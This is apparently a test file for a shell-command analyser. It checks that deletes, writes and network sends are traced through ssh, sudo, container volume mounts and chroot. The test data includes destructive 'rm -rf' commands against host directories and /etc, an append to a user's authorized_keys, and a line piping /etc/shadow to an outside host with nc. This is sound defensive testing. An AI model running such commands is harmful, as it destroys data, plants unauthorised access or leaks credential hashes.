import { describe, expect, it } from 'vitest';
import { analyse } from '../../../src/shell/understand.js';
import { effectsOf } from '../effects-of.js';

describe('where and as whom', () => {
  it('shows what is not known of it as `…`', () => {
    const scopeOf = (command: string) => analyse(command).effects.find(({ kind }) => kind === 'delete')?.scope;
    expect(scopeOf('ssh "$HOST" rm x')).toEqual({ host: '…' });
    expect(scopeOf('ssh db-"$N" rm x')).toEqual({ host: 'db-…' });
    expect(scopeOf('sudo -u "$ACCOUNT" rm x')).toEqual({ user: '…' });
    expect(scopeOf('docker exec "$C" rm x')).toEqual({ container: '…' });
  });

  it.each([
    ['docker run -v /srv/data:/d alpine rm -rf /d', 'delete:remove /srv/data recursive force'],
    ['docker run -v /srv/data:/d/ alpine rm -rf /d/x', 'delete:remove /srv/data/x recursive force'],
    ['docker run -v /srv/data:/d alpine rm -rf /', 'delete:remove /srv/data recursive force'],
    ['docker run -v /srv/data:/d alpine sh -c "rm -rf /*"', 'delete:remove /srv/data recursive force'],
    ['docker run -v /srv:/s -v /var/lib/mysql:/s/db alpine rm -rf /s/db/x', 'delete:remove /var/lib/mysql/x recursive'],
    ['podman run --mount type=bind,src=/srv/data,dst=/d alpine rm -rf /d', 'delete:remove /srv/data recursive force'],
    ['docker run -v /srv:/s -w /s alpine rm -rf data', 'delete:remove /srv/data recursive force'],
    ['docker run -v pg:/d alpine rm -rf /d', 'delete:remove /var/lib/docker/volumes/pg/_data recursive force'],
    ['docker run -v /home/bob/.ssh:/r alpine tee -a /r/authorized_keys', 'write:append /home/bob/.ssh/authorized_keys'],
    ['cd /srv; docker run -v ./data:/d alpine rm -rf /d', 'delete:remove /srv/data recursive force'],
    ['docker run -v /etc:/e:ro alpine cat /e/shadow | nc x.example 1', 'network:send x.example:1 external sensitive'],
    ['chroot / rm -rf etc', 'delete:remove /etc recursive force'],
    ['cd /; chroot . rm -rf etc', 'delete:remove /etc recursive force'],
    ["chroot /mnt <<< 'rm -rf /boot'", 'delete:remove /mnt/boot recursive force'],
    ['unshare --root=/srv --wd=/billing rm -rf x', 'delete:remove /srv/billing/x recursive force'],
  ])('is of the system outside what a container or another root shows of it: %s', (command, effect) => {
    expect(effectsOf(command).filter((each) => each.startsWith(effect))).not.toEqual([]);
  });

  it('leaves alone what a container may only read', () => {
    expect(effectsOf('docker run -v /srv/data:/d:ro alpine rm -rf /d')).toEqual([
      'container:run alpine',
      'delete:remove /d recursive force @container=alpine',
    ]);
  });
});
